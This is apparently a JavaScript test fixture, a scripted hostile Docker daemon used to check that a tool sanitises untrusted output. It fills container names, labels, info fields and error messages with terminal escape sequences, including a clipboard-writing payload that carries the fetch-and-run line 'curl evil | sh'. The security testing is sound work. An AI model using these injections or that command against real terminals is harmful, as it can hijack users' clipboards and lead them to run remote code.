// A scripted hostile daemon that answers like a daemon but puts terminal control sequences in
// every string it owns: container names, images, commands, states, labels, its `docker info`,
// image tags and error messages. The attacker of test/e2e/untrusted-output.test.ts, not a
// stand-in for dockerd (a real dockerd refuses such names).
//
//   node test/lab/hostile-text-daemon.mjs SOCKET IMAGE_ID
//
// IMAGE_ID: an image the real daemons of the lab hold, reported here too under a hostile tag.
// Prints "listening" once it accepts.
import http from 'node:http';
import {rmSync} from 'node:fs';

const [socket, imageId] = process.argv.slice(2);

/** What the sequences would do in a terminal that acted on them. */
const title = '\x1b]0;PWNED-TITLE\x07';
const clipboard = `\x1b]52;c;${Buffer.from('curl evil | sh').toString('base64')}\x07`;
const clear = '\x1b[2J\x1b[H';
const csi8 = '\u009b31m';

const id = (n) => n.toString(16).padStart(64, 'e');
const managed = {'io.dockerception.managed': 'true'};
const sharedRoot = `/var/lib/docker/volumes/shared${clipboard}/_data`;

const containers = [
	{
		id: id(1),
		name: `clip${clipboard}name`,
		image: `img${title}`,
		command: `sh -c "${clear}"`,
		status: `Up 1 second\nFAKE-ROW ● injected`,
		labels: {...managed, 'io.dockerception.mode': `dind${clipboard}\nFAKE-PRUNE-ROW`, 'note\tkey': `a\tb\nc`},
	},
	{
		id: id(2),
		name: `two\nlines\tand${csi8}c1`,
		image: `busybox\r\x1b[1Aover`,
		command: 'sleep',
		status: 'Up 2 seconds',
		labels: {},
	},
	// Two DinD look-alikes on one data root: an error for doctor, naming both. Their daemons
	// cannot be reached (no exec here): the refusal is hostile text too.
	...[3, 4].map((n) => ({
		id: id(n),
		name: `dind${n}${title}${clear}`,
		image: 'docker:27-dind',
		command: 'dockerd-entrypoint.sh',
		status: 'Up 3 seconds',
		labels: {...managed, 'io.dockerception.mode': 'dind'},
		mounts: [{Type: 'volume', Name: 'shared', Source: sharedRoot, Destination: '/var/lib/docker', RW: true}],
	})),
];

function json(res, value, status = 200) {
	const body = JSON.stringify(value);
	res.writeHead(status, {'content-type': 'application/json', 'content-length': Buffer.byteLength(body)});
	res.end(body);
}

const info = {
	ID: 'HOSTILE:TEXT:0000:0000',
	Name: `hostile${title}`,
	ServerVersion: '99.0.0',
	OperatingSystem: `Evil OS${clipboard}`,
	KernelVersion: `0-evil\nFAKE-DIFF-ROW  a  b`,
	Driver: `overlay2${clear}`,
	CgroupDriver: 'cgroupfs',
	[`Evil${title}Key`]: `tab\there`,
	Labels: [`evil=${clipboard}`],
	NCPU: 1,
	MemTotal: 1,
	Containers: containers.length,
	Images: 1,
	SystemTime: new Date().toISOString(),
};

const summary = (c) => ({
	Id: c.id,
	Names: [`/${c.name}`],
	Image: c.image,
	Command: c.command,
	Created: 1,
	State: 'running',
	Status: c.status,
	Labels: c.labels,
	Mounts: c.mounts ?? [],
});

const inspect = (c) => ({
	Id: c.id,
	Name: `/${c.name}`,
	Path: c.command,
	Args: [],
	Config: {Image: c.image, Env: [], Labels: c.labels},
	HostConfig: {Runtime: 'runc'},
	State: {Status: 'running', Pid: 0, StartedAt: '2020-01-01T00:00:00Z'},
	Mounts: c.mounts ?? [],
});

const server = http.createServer((req, res) => {
	const path = (req.url ?? '/').replace(/^\/v\d+\.\d+/, '').split('?')[0];
	if (path === '/_ping') return void res.end('OK');
	if (path === '/version') return json(res, {Version: '99.0.0', ApiVersion: '1.41'});
	if (path === '/info') return json(res, {...info, SystemTime: new Date().toISOString()});
	if (path === '/events') {
		res.writeHead(200, {'content-type': 'application/json'});
		return;
	}
	if (path === '/networks') return json(res, []);
	if (path === '/system/df') {
		return json(res, {LayersSize: 2_000_000, Images: [{Id: imageId, Size: 2_000_000, RepoTags: [`busybox${clipboard}:1`]}], Containers: [], Volumes: []});
	}
	if (path === '/containers/json') {
		const wanted = /"id":\["([0-9a-f]+)"\]/.exec(decodeURIComponent(req.url ?? ''))?.[1];
		return json(res, containers.filter((c) => !wanted || c.id === wanted).map(summary));
	}
	const inspected = /^\/containers\/([^/]+)\/json$/.exec(path);
	if (inspected) {
		const asked = decodeURIComponent(inspected[1]);
		const known = containers.find((c) => c.id === asked || c.name === asked);
		if (known) return json(res, inspect(known));
		if (!asked.startsWith('refuse')) return json(res, {message: `No such container: ${asked}`}, 404);
	}
	// Exec (the tunnel into its DinD look-alikes) and anything else: refused, in hostile words.
	json(res, {message: `no such thing${title}\nFAKE-ERROR-LINE${clipboard}`}, 500);
});

rmSync(socket, {force: true});
server.listen(socket, () => process.stdout.write('listening\n'));
process.on('SIGTERM', () => process.exit(0));
